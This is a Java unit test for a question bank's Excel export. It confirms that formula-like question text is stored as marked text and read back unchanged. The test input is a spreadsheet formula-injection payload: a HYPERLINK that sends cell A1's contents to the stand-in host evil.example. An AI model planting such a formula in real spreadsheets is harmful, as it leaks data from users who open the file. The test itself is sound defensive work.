package vn.thituyen.questionbank.format;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.Test;

/**
 * A question bank written by outsiders may hold text that starts like a formula; the Excel export marks those
 * cells as text (no formula runs when the file is opened or a cell edited) and reads back the same questions.
 */
class ExcelFormulaExportTest {

    @Test
    void formulaLikeTextIsExportedAsMarkedTextAndReadsBackUnchanged() throws Exception {
        String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
        QuestionDraft q = QuestionDraft.single(0, hostile, List.of("-1", "+1", "@0", "2"), 0);
        ExcelFormat format = new ExcelFormat();
        byte[] file = format.write(List.of(q)).data();
        try (Workbook wb = WorkbookFactory.create(new ByteArrayInputStream(file))) {
            Row row = wb.getSheetAt(0).getRow(1);
            int formulaCells = 0;
            for (Cell cell : row) {
                assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                String v = cell.getCellType() == CellType.STRING ? cell.getStringCellValue() : "";
                if (!v.isEmpty() && "=+-@".indexOf(v.charAt(0)) >= 0) {
                    assertThat(cell.getCellStyle().getQuotePrefixed()).as(v).isTrue();
                    formulaCells++;
                }
            }
            assertThat(formulaCells).isEqualTo(4);
        }
        assertThat(format.read(file).questions()).extracting(QuestionDraft::withoutLine)
                .containsExactly(q.withoutLine());
    }
}
